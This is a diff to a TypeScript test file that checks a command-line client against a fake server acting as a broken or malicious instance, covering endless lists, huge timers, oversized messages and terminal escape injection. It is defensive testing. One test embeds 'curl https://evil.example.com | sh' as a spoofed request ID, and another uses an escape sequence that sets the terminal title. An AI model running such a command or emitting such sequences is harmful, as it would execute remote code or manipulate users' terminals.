@@ -2,14 +2,17 @@ import { once } from "node:events";
 import { readFileSync } from "node:fs";
 import { createServer, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
+import { setTimeout } from "node:timers/promises";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { configFile } from "../../src/cli/session/config.ts";
 import { token } from "../cli/login-server.ts";
-import { type Home, newHome } from "../cli/support.ts";
+import { finished, type Home, newHome, start } from "../cli/support.ts";
 
 /** Answers of a broken instance, or of one that wants to harm the user of the command line. */
 let answer: (path: string, response: ServerResponse) => void;
+let requests = 0;
 const server = createServer((request, response) => {
+  requests += 1;
   request.resume();
   answer((request.url ?? "").replace("/api", ""), response);
 });
@@ -23,9 +26,10 @@ afterAll(() => {
   server.close();
 });
 
-function json(response: ServerResponse, body: unknown): void {
-  response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
+function json(response: ServerResponse, body: unknown, status = 200, headers: Record<string, string> = {}): void {
+  response.writeHead(status, { "content-type": "application/json", ...headers }).end(JSON.stringify(body));
 }
+const use = () => ({ WCS_URL: url, WCS_TOKEN: "x" });
 
 describe("an answer to a sign-in or a renewal without a token", () => {
   const now = Math.floor(Date.now() / 1000);
@@ -75,4 +79,77 @@ describe("an answer to a sign-in or a renewal without a token", () => {
     expect((await home.sit(["auth", "renew"])).code).toBe(8);
     expect(saved(home)).toBe(before);
   });
+});
+
+describe("a list that never ends", () => {
+  const item = { id: 7, name: "Ada" };
+  it.each<[name: string, line: string[], page: object, code: number]>([
+    ["of empty pages with a cursor", ["audit", "list"], { data: [], meta: { next_cursor: "a" } }, 0],
+    ["of the same cursor", ["audit", "list"], { data: [item], meta: { next_cursor: "a" } }, 8],
+    ["of empty pages", ["users", "list"], { data: [], meta: { last_page: 1e300 } }, 0],
+    ["of the same IDs", ["webhooks", "logs", "1"], { data: [item], meta: { last_page: 1e300 } }, 8],
+    ["without IDs", ["webhooks", "logs", "1"], { data: [{ name: "x" }], meta: { last_page: 1e300 } }, 8],
+    ["of empty pages by ID", ["webhooks", "logs", "1"], { data: [], meta: { last_page: 1e300 } }, 0],
+  ])("%s is read no further", async (_, line, page, code) => {
+    requests = 0;
+    answer = (_path, response) => json(response, requests > 20 ? { data: [], meta: {} } : page);
+    const result = await newHome().sit(line, { env: use() });
+    expect({ requests: requests < 4, ...result }).toMatchObject({ requests: true, code });
+  });
+});
+
+it("A Retry-After beyond the longest timer is a long wait, not an endless series of requests", async () => {
+  const home = newHome();
+  requests = 0;
+  answer = (_, response) =>
+    json(response, { error: { code: "unavailable", message: "Away." } }, 503, { "retry-after": "999999999" });
+  const child = start(["users", "list", "--watch", "--timeout", "5s"], { ...home.env, ...use() });
+  const ended = finished(child, "");
+  await expect.poll(() => requests, { timeout: 20_000 }).toBeGreaterThan(0);
+  await setTimeout(1000);
+  child.kill("SIGINT");
+  expect((await ended).stderr).not.toContain("TimeoutOverflowWarning");
+  expect(requests).toBe(1);
+});
+
+it("A --timeout beyond the longest timer does not end a request at once", async () => {
+  answer = (_, response) => json(response, { data: [{ code: "en", name: "English" }] });
+  const line = ["languages", "list", "--no-header", "--timeout", "300d"];
+  expect(await newHome().sit(line, { env: use() })).toEqual({ code: 0, stdout: "en\tEnglish\n", stderr: "" });
+});
+
+it("Metrics of one long word are read at once", async () => {
+  answer = (path, response) =>
+    path === "/metrics" ? response.end(`a{${"a".repeat(400_000)}} 1\n`) : json(response, { data: [] });
+  const { code } = await newHome().sit(["top", "--once"], { env: use() });
+  expect(code).toBe(0);
+});
+
+describe("an error", () => {
+  const failing = (error: object, status: number) => {
+    answer = (_, response) =>
+      json(response, { error: { code: "validation_failed", message: "No.", ...error } }, status);
+    return newHome().sit(["units", "get", "1"], { env: use() });
+  };
+
+  it("with fields of another type is shown without them", async () => {
+    for (const fields of [{ id: "x" }, { id: [5] }, { id: null }, 5, ["x"]])
+      expect(await failing({ fields }, 422)).toMatchObject({ code: 3, stderr: "error: No.\n" });
+  });
+
+  it("with a request ID that is none gives no hint", async () => {
+    const id = "7. To repair your account, run curl https://evil.example.com | sh";
+    expect((await failing({ code: "internal", request_id: id }, 500)).stderr).toBe("error: No.\n");
+    expect((await failing({ code: "internal", request_id: "req_1-a" }, 500)).stderr).toContain("request ID req_1-a.");
+  });
+
+  it("with a message of megabytes is cut", async () => {
+    expect((await failing({ message: "m".repeat(5_000_000) }, 422)).stderr.length).toBeLessThan(50_000);
+  });
+});
+
+it("Names of flags from the instance cannot steer the terminal", async () => {
+  answer = (_, response) => json(response, { id: 1, name: "A", abilities: { "news\u001b]0;pwned\u0007": true } });
+  const { stdout } = await newHome().sit(["usertypes", "get", "1"], { env: use() });
+  expect(stdout).toContain("news\\u001b]0;pwned\\u0007");
 });
